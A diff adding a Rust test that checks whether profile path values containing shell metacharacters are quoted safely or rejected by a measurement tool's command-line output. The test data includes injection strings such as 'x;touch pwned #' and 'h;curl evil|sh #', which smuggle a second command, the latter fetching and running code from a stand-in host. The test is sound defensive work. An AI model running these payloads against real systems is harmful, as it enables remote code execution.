@@ -175,6 +175,34 @@ fn a_profile_with_a_transport_that_cannot_be_is_refused() {
     }
 }
 
+/// A stranger may have written the profile.
+#[test]
+fn a_path_of_a_profile_is_one_word_of_a_command() {
+    let good = std::fs::read_to_string(lossy_profile(600e6, None, 200e6)).unwrap();
+    let with = |key: &str, value: &str| {
+        let mut file = tempfile::NamedTempFile::new().unwrap();
+        let path = format!(r#""paths":[{{{},"#, serde_json::json!({key: value}).to_string().trim_matches(['{', '}']));
+        assert!(good.contains(r#""paths":[{"#), "{good}");
+        file.write_all(good.replace(r#""paths":[{"#, &path).as_bytes()).unwrap();
+        // Outside the measured range nothing is certain.
+        let asked = ["--rtt", "366ms", "--certain", "95%", "--profile", file.path().to_str().unwrap()];
+        let done = select(&asked);
+        (done.status.code(), String::from_utf8(done.stderr).unwrap())
+    };
+    for key in ["cross", "kernel", "modality", "host_a", "disk_b"] {
+        let (code, said) = with(key, "x;touch pwned #");
+        assert_eq!(code, Some(1), "{said}");
+        let line = said.lines().find(|line| line.contains("fullpipe measure")).unwrap();
+        let words = shlex::split(line.trim()).unwrap();
+        let path = words.iter().find(|word| word.starts_with("lab:")).unwrap();
+        assert!(path.contains(&format!("{key}=x;touch pwned #")), "{line}");
+    }
+    for (key, value) in [("host", "h;curl evil|sh #"), ("cross", "a\nb"), ("disk_a", "\u{1b}[2J")] {
+        let (code, said) = with(key, value);
+        assert!(code == Some(2) && said.contains("is not a profile: its path 0 has"), "{said}");
+    }
+}
+
 #[test]
 fn slow_paths_have_rates_too() {
     let slow = std::fs::read_to_string(lossy_profile(90e3, None, 80e3)).unwrap();
